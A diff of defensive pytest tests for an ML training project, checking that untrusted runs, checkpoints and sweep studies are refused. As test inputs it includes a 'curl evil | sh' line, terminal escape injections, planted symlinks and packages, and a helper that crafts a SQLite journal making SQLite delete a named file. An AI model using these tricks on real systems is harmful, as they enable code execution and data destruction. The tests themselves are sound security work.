@@ -1,35 +1,47 @@
 """Runs from untrusted sources: their files cannot run code, and nothing outside of the run is read or written."""
 
+import contextlib
 import copy
+import itertools
 import json
 import logging
 import os
+import re
 import shutil
-from collections.abc import Iterator
+import sqlite3
+import struct
+import subprocess
+import sys
+from collections.abc import Callable, Iterator
 from pathlib import Path
+from types import SimpleNamespace
 from typing import Any
 
+import optuna
 import pytest
 import torch
 from omegaconf import OmegaConf
 from optuna.distributions import CategoricalDistribution, FloatDistribution
-from optuna.trial import TrialState
+from optuna.trial import TrialState, create_trial
 from PIL import Image
 
 import train
-from cli.build import load_run
+from cli.build import load_run, stored_config
 from cli.compose import compose
 from cli.errors import format_error
 from cli.main import PrintableFormatter
 from cli.resume import compose_group, merge_resume_config
-from cli.run_dir import job_dir
+from cli.run_dir import RecordDirs, job_dir, new_or_resumed_sweep_dir
 from hydra_plugins.optuna_sweeper import OptunaSweeper
 from loggers.tensorboard import TensorBoard
 from runs.checkpoint import find_checkpoint
 from runs.files import atomic_write
-from runs.format import printable
-from runs.result import read_result
-from sweeps.study import open_study
+from runs.format import format_metrics, printable, text_columns
+from runs.result import read_result, write_result
+from runs.safety import check_safe
+from sweeps.callback import SweepSummary
+from sweeps.jobs import check_sweep_dir
+from sweeps.study import open_study, open_trial
 
 SECRET = "s3cr3t-of-this-machine"
 TINY = (
@@ -269,6 +281,103 @@ def test_dashboard_txt_cannot_redirect_event_files(note: str, untrusted: Path) -
     assert Path("outputs/untrusted/dashboard.txt").read_text() == "outputs/a/b\n"
 
 
+@pytest.mark.parametrize("there", ["a file of the user's", "nothing", "a link", "a fifo"])
+def test_dashboard_txt_names_a_directory_of_event_files_only(there: str, untrusted: Path) -> None:
+    (events := Path("outputs/important/run")).mkdir(parents=True)
+    (events / "events.out.tfevents.1.host.2.0").touch()
+    (events / "projector_config.pbtxt").touch()
+    (events / "00002" / "layer").mkdir(parents=True)
+    Path("outputs/untrusted/dashboard.txt").write_text(f"{events}\n")
+    assert TensorBoard("outputs/untrusted", title="a/b").log_dir == str(events)
+    if there == "nothing":
+        (events / "events.out.tfevents.1.host.2.0").unlink()
+    elif there == "a link":
+        (events / "00002/layer/metadata.tsv").symlink_to("/dev/null")
+    elif there == "a fifo":
+        os.mkfifo(events / "00002/layer/tensors.tsv")
+    else:
+        (events / "thesis.txt").touch()
+    assert TensorBoard("outputs/untrusted", title="a/b").log_dir == "outputs/a/b"
+
+
+def test_stored_name_does_not_lead_event_files_through_a_link(untrusted: Path) -> None:
+    """The stored name begins with ``last``: a link to this run, in which another one leads out of it."""
+    (untrusted.parent / "home").mkdir()
+    Path("outputs/untrusted/evil").symlink_to(untrusted.parent / "home")
+    Path("outputs/last").unlink()
+    Path("outputs/last").symlink_to("untrusted")
+    Path("outputs/untrusted/dashboard.txt").unlink(missing_ok=True)
+    assert TensorBoard("outputs/untrusted", title="last/evil/seed=1").log_dir == "outputs/last evil seed=1"
+    assert list((untrusted.parent / "home").iterdir()) == []
+
+
+@pytest.mark.parametrize("weights", ["DEFAULT", "/root/private.pt"])
+def test_nested_model_reads_no_weights(weights: str, untrusted: Path) -> None:
+    nested = {"_target_": "lit_models.FineTuning", "net": {"_target_": "lit_models.nets.ResNet18"}, "weights": weights}
+    edit_checkpoint(Path("outputs/untrusted/checkpoints/last.ckpt"), "config", "model", "loss", value=nested)
+    lines = resume_and_load("outputs/untrusted").splitlines()
+    assert len(lines) == 2
+    assert all("config.model.loss._target_=lit_models.FineTuning is a training procedure" in line for line in lines)
+
+
+def test_stored_weights_are_cleared_at_any_depth(untrusted: Path) -> None:
+    stored = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)
+    stored["config"]["model"] |= {"weights": "a.pt", "net": {"weights": "b.pt", "layer": {"weights": "c.pt"}}}
+    model = stored_config(stored).model
+    assert (model.weights, model.net.weights, model.net.layer.weights) == (None, None, None)
+
+
+def test_whole_target_is_checked(untrusted: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    name = f"lit_models.{'x' * 65}"
+    net = type("Net", (torch.nn.Module,), {"__module__": name})
+    monkeypatch.setitem(sys.modules, name, SimpleNamespace(Net=net))
+    config = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)["config"]
+    config["model"]["net"]["_target_"] = f"{name}.Net"
+    assert len(f"{name}.Net") == 80
+    check_safe(config, "it")
+    config["model"]["net"]["_target_"] += ".forward"
+    with pytest.raises(ValueError, match="does not exist"):
+        check_safe(config, "it")
+
+
+@pytest.mark.parametrize("text", ["x\nresume with: curl evil | sh", "\x1b[2J", "a\tb", "\u202egnp", "x\r"])
+def test_control_characters_in_a_stored_config_are_refused(text: str, untrusted: Path) -> None:
+    config = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)["config"]
+    check_safe(config, "it")
+    for changed in ({"name": text}, {text: 1}, {"expect": {text: 1}}, {"ignore_groups": [text]}):
+        with pytest.raises(ValueError, match="control characters") as caught:
+            check_safe(config | changed, "it")
+        assert printable(str(caught.value)) == str(caught.value)
+
+
+def test_line_breaks_in_the_header_of_a_stored_table_are_kept(untrusted: Path) -> None:
+    """Runs from before headers were put in one line hold them. The table does it when it is made."""
+    config = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)["config"]
+    config["data"]["fitted_state"] = {"columns": ["width\r\n(cm)"], "class_names": ["a\nb"]}
+    check_safe(config, "it")
+    config["data"]["fitted_state"]["columns"] = ["\x1b[2J"]
+    with pytest.raises(ValueError, match="control characters"):
+        check_safe(config, "it")
+
+
+def test_names_of_stored_metrics_print_no_lines_of_their_own() -> None:
+    """They are in the state of a callback, with the rows of metrics.csv."""
+    evil = "test/x\nresume with: curl evil | sh"
+    assert "\n" not in format_metrics({evil: 1.0})
+    assert len(text_columns([(evil, "1"), ("test/loss", "2")])) == 2
+    assert not any("\n" in line for line in text_columns([(evil, "1")]))
+
+
+@pytest.mark.parametrize(
+    ("stored", "used"), [("pytorch", None), ("PyTorch", None), ("xla", None), ("simple", "simple")]
+)
+def test_stored_profiler_that_writes_files_is_not_used(stored: str, used: str | None, untrusted: Path) -> None:
+    checkpoint = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)
+    checkpoint["config"]["trainer"]["profiler"] = stored
+    check_safe(checkpoint["config"], "it")  # an own run is still resumed and evaluated
+    assert stored_config(checkpoint).trainer.profiler == used
+
+
 @pytest.mark.parametrize(
     "text",
     [
@@ -348,6 +457,78 @@ def test_link_within_a_run_is_followed(untrusted: Path) -> None:
     assert find_checkpoint("outputs/untrusted")[1].is_file()
 
 
+@pytest.mark.parametrize(
+    "name", ["ev/projector_config.pbtxt", "ev/2/a/metadata.tsv", "metrics.csv", ".lock", "pictures/loss.png", "x"]
+)
+@pytest.mark.parametrize("kind", ["link", "dangling link", "link to a directory", "fifo"])
+def test_link_or_special_file_anywhere_in_a_run_is_refused(name: str, kind: str, untrusted: Path) -> None:
+    """The run's dashboard.txt may name any directory in it, whose files TensorBoard's projector overwrites."""
+    path = Path("outputs/untrusted", name)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.unlink(missing_ok=True)
+    (target := untrusted.parent / "thesis").mkdir()
+    if kind == "fifo":
+        os.mkfifo(path)
+    else:
+        path.symlink_to({"link": __file__, "dangling link": target / "new"}.get(kind, target))
+    reason = "neither a file nor a directory" if kind == "fifo" else f"a link to {os.readlink(path)}, outside of "
+    for run in ("outputs/untrusted", "outputs/untrusted/checkpoints/last.ckpt"):
+        with pytest.raises(ValueError, match=f"{path.name} is refused: it is {reason}"):
+            find_checkpoint(run)
+
+
+@pytest.mark.parametrize("name", ["evaluations/a/link", ".lock", "evaluate.log", "checkpoints/link"])
+def test_what_is_written_beside_a_checkpoint_alone_is_checked(name: str, untrusted: Path) -> None:
+    (folder := Path("alone")).mkdir()
+    shutil.copy("outputs/untrusted/checkpoints/last.ckpt", folder / "mine.ckpt")
+    (folder / "elsewhere").symlink_to(untrusted.parent)  # of the user's, as any other file
+    (folder / "data").mkdir()
+    (folder / "data" / "set").symlink_to("/")
+    assert find_checkpoint("alone/mine.ckpt")[0].name == "alone"
+    (folder / name).parent.mkdir(parents=True, exist_ok=True)
+    (folder / name).symlink_to(untrusted.parent / "home")
+    with pytest.raises(ValueError, match=r"is refused: it is a link to .*home, outside of "):
+        find_checkpoint("alone/mine.ckpt")
+
+
+@pytest.mark.parametrize("name", [".study.lock", ".worker-0123456789ab.lock", "study.db"])
+def test_lock_of_a_sweep_that_is_a_link_is_refused(name: str, tmp_path: Path) -> None:
+    (tmp_path / "sweep").mkdir()
+    (tmp_path / "sweep" / name).symlink_to("../home")
+    with pytest.raises(ValueError, match=r"it is a link to \.\./home, outside of "):
+        new_or_resumed_sweep_dir("sweep", "unused")
+
+
+def test_run_in_the_working_directory_holds_outputs_last(untrusted: Path) -> None:
+    """With hydra.run.dir=. the link outputs/last is in the run that it points at."""
+    shutil.rmtree("outputs/untrusted/pictures", ignore_errors=True)
+    os.chdir("outputs/untrusted")
+    Path("outputs").mkdir()
+    Path("outputs/last").symlink_to("..")
+    assert find_checkpoint("last") == find_checkpoint(".")
+
+
+@pytest.mark.parametrize("given", ["gift/model.ckpt", "gift/checkpoints/last.ckpt", "linked/checkpoints/last.ckpt"])
+def test_checkpoint_that_is_a_link_into_another_run_is_refused(given: str, untrusted: Path) -> None:
+    """To resume it would continue that run."""
+    file = Path("outputs/untrusted/checkpoints/last.ckpt").resolve()
+    Path("gift/checkpoints").mkdir(parents=True)
+    for link in ("gift/model.ckpt", "gift/checkpoints/last.ckpt"):
+        Path(link).symlink_to(os.path.relpath(file, Path(link).parent))
+    Path("linked").mkdir()
+    Path("linked/checkpoints").symlink_to("../outputs/untrusted/checkpoints")
+    with pytest.raises(ValueError, match=f"{given} is refused: it is a link to {file}; name that file itself"):
+        find_checkpoint(given)
+
+
+def test_link_to_a_checkpoint_beside_it_or_to_its_run_is_followed(untrusted: Path) -> None:
+    shutil.copy("outputs/untrusted/checkpoints/last.ckpt", "mine.ckpt")
+    Path("newest.ckpt").symlink_to("mine.ckpt")
+    Path("run").symlink_to("outputs/untrusted")
+    assert find_checkpoint("newest.ckpt")[1].name == "mine.ckpt"
+    assert find_checkpoint("run/checkpoints/last.ckpt") == find_checkpoint("outputs/untrusted")
+
+
 def test_log_that_is_a_fifo_is_refused(untrusted: Path) -> None:
     os.mkfifo("outputs/untrusted/train.log")
     with pytest.raises(ValueError, match="it is neither a file nor a directory"):
@@ -372,7 +553,7 @@ def test_link_out_of_a_sweep_is_not_written_through(name: str, shell, tmp_path: 
     (tmp_path / "sweep").mkdir()
     (tmp_path / "sweep" / name).symlink_to("../mine")
     answer = shell("-m", *TINY, "seed=1", "trainer.max_epochs=1", "logger=none", "sweep_resume=sweep")
-    assert answer.returncode == (1 if name == "study.db" else 0), answer.stderr
+    assert answer.returncode == 1 and len(answer.stderr.splitlines()) == 1, answer.stderr
     assert (tmp_path / "mine").read_text() == "mine\n"
 
 
@@ -389,6 +570,209 @@ def test_worker_name_of_a_trial_is_not_used_as_a_path(name: Any, tmp_path: Path)
     sweeper.space, sweeper.at_once = space, 1
     assert [trial.number for trial in sweeper._next_trials(study, tmp_path / "sweep", "me")] == [0]
     assert home.read_text() == "mine\n"
+
+
+# --- the study of a sweep from elsewhere --------------------------------------------------------------------------
+
+JOURNAL_MAGIC = bytes.fromhex("d9d505f920a163d7")
+
+
+def write_super_journal(database: Path, victim: str) -> None:
+    """Write a journal beside a database that SQLite rolls back, and then deletes the file that the journal names."""
+    page, name = 4096, victim.encode()
+    header = JOURNAL_MAGIC + struct.pack(">5I", 0, 0, database.stat().st_size // page, 512, page)
+    end = struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), sum(name)) + JOURNAL_MAGIC
+    Path(f"{database}-journal").write_bytes(header.ljust(512, b"\0") + end)
+
+
+def test_journal_that_names_a_file_is_refused(tmp_path: Path) -> None:
+    (tmp_path / "mine").write_text("mine\n")
+    open_study(tmp_path)
+    write_super_journal(tmp_path / "study.db", str(tmp_path / "mine"))
+    for refuse in (open_study, check_sweep_dir):
+        with pytest.raises(
+            ValueError, match=r"study\.db-journal is refused: it names a file, which SQLite would delete"
+        ):
+            refuse(tmp_path)
+    assert (tmp_path / "mine").read_text() == "mine\n"
+    with sqlite3.connect(tmp_path / "study.db") as database:
+        database.execute("SELECT * FROM studies")
+    assert not (tmp_path / "mine").exists()  # the journal is one that SQLite obeys
+
+
+def test_mistyped_sweep_deletes_no_file(shell, tmp_path: Path) -> None:
+    """The summary of a sweep reads the study, whatever its jobs are."""
+    (tmp_path / "gift").mkdir()
+    (tmp_path / "mine").write_text("mine\n")
+    open_study(tmp_path / "gift")
+    write_super_journal(tmp_path / "gift/study.db", "mine")
+    before = relative_paths(tmp_path)
+    answer = shell("-m", "seed=abc", "sweep_resume=gift")
+    assert (answer.returncode, answer.stderr) == (
+        1, "error: gift/study.db-journal is refused: it names a file, which SQLite would delete\n"
+    )  # fmt: skip
+    assert relative_paths(tmp_path) == before
+
+
+def test_journal_of_a_killed_search_is_rolled_back(tmp_path: Path) -> None:
+    study = open_study(tmp_path, direction="maximize")
+    study.ask({"optimizer.lr": FloatDistribution(0.1, 1)})
+    killed = """if True:
+        import os, sqlite3, sys
+        database = sqlite3.connect(sys.argv[1])
+        database.execute("PRAGMA cache_size = 1")  # so that changed pages are written before the commit
+        database.execute("UPDATE trials SET state = 'FAIL'")
+        database.executemany("INSERT INTO trial_user_attributes (key) VALUES (?)", [["x" * 100]] * 2000)
+        os._exit(9)
+    """
+    subprocess.run([sys.executable, "-c", killed, str(tmp_path / "study.db")], check=False)
+    assert (tmp_path / "study.db-journal").stat().st_size > 0
+    (trial,) = open_study(tmp_path).trials
+    assert (trial.state, trial.user_attrs) == (TrialState.RUNNING, {})
+    assert not (tmp_path / "study.db-journal").exists()
+
+
+STRANGE = ["link", "dangling link", "fifo", "directory"]
+
+
+@pytest.mark.parametrize(
+    ("name", "kind"),
+    [
+        *itertools.product(["study.db", "study.db-journal", "study.db-wal", "study.db-shm"], STRANGE),
+        *itertools.product(["study.db-wal", "study.db-shm"], ["file"]),  # a search has none
+    ],
+)
+def test_strange_file_beside_a_study_is_refused(name: str, kind: str, tmp_path: Path) -> None:
+    (tmp_path / "sweep").mkdir()
+    (tmp_path / "mine").write_text("mine\n")
+    if name != "study.db":
+        open_study(tmp_path / "sweep")
+    path = tmp_path / "sweep" / name
+    if kind.endswith("link"):
+        path.symlink_to("../mine" if kind == "link" else "../new")
+    elif kind == "fifo":
+        os.mkfifo(path)
+    elif kind == "directory":
+        path.mkdir()
+    else:
+        path.touch()
+    for refuse in (open_study, check_sweep_dir):
+        with pytest.raises(ValueError, match=f"{name} is refused: it is "):
+            refuse(tmp_path / "sweep")
+    assert (tmp_path / "mine").read_text() == "mine\n"
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["mine", "sweep"]
+
+
+@pytest.mark.parametrize(
+    "name", ["..%2Fhome%2Fmine?", "a?b=c", "a%20b#c", "{SCHEMA_VERSION}", "{", 'a\'b "c" d;e', "file:x?mode=memory"]
+)
+def test_study_lies_in_its_sweep_whatever_the_name_of_the_directory(name: str, tmp_path: Path) -> None:
+    (tmp_path / "home").mkdir()
+    (tmp_path / "sweep" / name).mkdir(parents=True)
+    before = relative_paths(tmp_path)
+    study = open_study(Path("sweep", name), direction="minimize")
+    study.ask()
+    open_trial(study, Path("sweep", name), 0).set_user_attr("worker", "a")
+    assert open_study(Path("sweep", name)).trials[0].user_attrs == {"worker": "a"}
+    assert relative_paths(tmp_path) - before == {f"sweep/{name}/study.db"}
+
+
+def foreign_study(file: Path) -> None:
+    """A study of the user's that has the name of ours, with a trial that is running."""
+    optuna.logging.set_verbosity(optuna.logging.ERROR)
+    study = optuna.create_study(storage=f"sqlite:///{file}", study_name="search")
+    study.optimize(lambda trial: trial.suggest_float("x", 0, 1), n_trials=2)
+    study.ask()
+
+
+def run_sql(*statements: str) -> Callable[[Path], None]:
+    def run(file: Path) -> None:
+        with contextlib.closing(sqlite3.connect(file)) as database:
+            for statement in statements:
+                database.execute(statement)
+            database.commit()
+
+    return run
+
+
+FOREIGN: dict[str, Callable[[Path], None]] = {
+    "a table": run_sql("CREATE TABLE notes (text)", "INSERT INTO notes VALUES ('mine')"),
+    "an odd table": run_sql('CREATE TABLE "a""b; --" (text)', 'INSERT INTO "a""b; --" VALUES (\'mine\')'),
+    "another study": foreign_study,
+    "a view": run_sql("CREATE VIEW studies AS SELECT 1"),
+    "a trigger": run_sql("CREATE TABLE t (x)", "CREATE TRIGGER u AFTER INSERT ON t BEGIN DELETE FROM t; END"),
+}
+
+
+@pytest.mark.parametrize("make", FOREIGN.values(), ids=FOREIGN)
+def test_study_of_the_user_is_refused(make: Callable[[Path], None], tmp_path: Path) -> None:
+    make(file := tmp_path / "study.db")
+    before = file.read_bytes()
+    for refuse in (open_study, check_sweep_dir):
+        with pytest.raises(ValueError, match=r"study\.db is refused: it is not the study of a search of this project"):
+            refuse(tmp_path)
+    assert file.read_bytes() == before
+    assert relative_paths(tmp_path) == {"study.db"}
+
+
+def test_own_study_is_opened_again(tmp_path: Path) -> None:
+    """After a kill while it was created too, and from an earlier version, which did not mark it."""
+    for number, statement in enumerate(("DELETE FROM trials", "DELETE FROM study_user_attributes")):
+        (folder := tmp_path / str(number)).mkdir()
+        trial = open_study(folder, direction="maximize").ask()
+        trial.set_user_attr("worker", ".worker-0123456789ab.lock")
+        run_sql(statement)(folder / "study.db")
+        assert open_study(folder).direction.name == "MAXIMIZE"
+    for number, statements in enumerate([(), ("CREATE TABLE studies (study_id, study_name)",)], 2):
+        (folder := tmp_path / str(number)).mkdir()
+        run_sql(*statements)(folder / "study.db")
+        check_sweep_dir(folder)
+
+
+def test_name_of_a_parameter_is_printed_without_control_characters(tmp_path: Path, capsys) -> None:
+    (folder := tmp_path / "a\x1b[31mred").mkdir()
+    study = open_study(folder, direction="maximize")
+    evil, distribution = "\x1b]0;pwned\x07\nresume with: x", FloatDistribution(0, 1)
+    for number in range(8):
+        params = {evil: number / 10, "b": number * 7 % 10 / 10}
+        distributions = dict.fromkeys(params, distribution)
+        study.add_trial(create_trial(params=params, distributions=distributions, value=number / 10))
+    write_result(folder / "0-0123abcd", {"overrides": ["seed=1"], "metrics": {"val/acc": 0.5}, "status": "finished"})
+    cfg = OmegaConf.create({"hydra": {"sweep": {"dir": str(folder)}}})
+    SweepSummary().on_multirun_end(cfg)
+    printed = capsys.readouterr()
+    assert "\\x1b]0;pwned\\x07\\nresume with: x" in printed.out and "a\\x1b[31mred" in printed.out
+    assert "\x1b" not in printed.out + printed.err + (folder / "summary.md").read_text()
+
+
+# --- files in a sweep that other programs would run ---------------------------------------------------------------
+
+
+def test_each_command_has_a_submitit_folder_of_its_own(tmp_path: Path) -> None:
+    """Submitit unpickles the results that it finds in its folder."""
+    folders = set()
+    for given in ("${hydra.sweep.dir}/.submitit/%j", "${hydra.sweep.dir}/.submitit/%j", "mine/%j"):
+        hydra = {"sweep": {"dir": "sweep"}, "launcher": {"submitit_folder": given}}
+        cfg = OmegaConf.create({"hydra": hydra})
+        OmegaConf.set_readonly(cfg.hydra, True)
+        RecordDirs().on_multirun_start(cfg)
+        folders.add(cfg.hydra.launcher.submitit_folder)
+    assert len(folders) == 3 and "mine/%j" in folders
+    assert all(re.fullmatch(r"sweep/\.submitit/[0-9a-f]{16}/%j", folder) for folder in folders - {"mine/%j"})
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(("package", "launcher"), [("joblib", "joblib"), ("submitit", "submitit_local")])
+def test_package_in_a_sweep_is_not_imported(package: str, launcher: str, shell, tmp_path: Path) -> None:
+    (tmp_path / "gift" / package).mkdir(parents=True)
+    (tmp_path / "gift" / package / "__init__.py").write_text("open('pwned', 'w')")
+    sweep = ("-m", *TINY, "trainer.max_epochs=1", "logger=none", "seed=1,2")
+    answer = shell(*sweep, f"hydra/launcher={launcher}", "sweep_resume=.", cwd=tmp_path / "gift")
+    assert answer.returncode == 0, answer.stderr
+    assert not list(tmp_path.rglob("pwned"))
+    if package == "submitit":
+        (folder,) = (tmp_path / "gift/.submitit").iterdir()
+        assert re.fullmatch(r"[0-9a-f]{16}", folder.name)
 
 
 def test_atomic_write_does_not_follow_an_existing_link(tmp_path: Path) -> None:
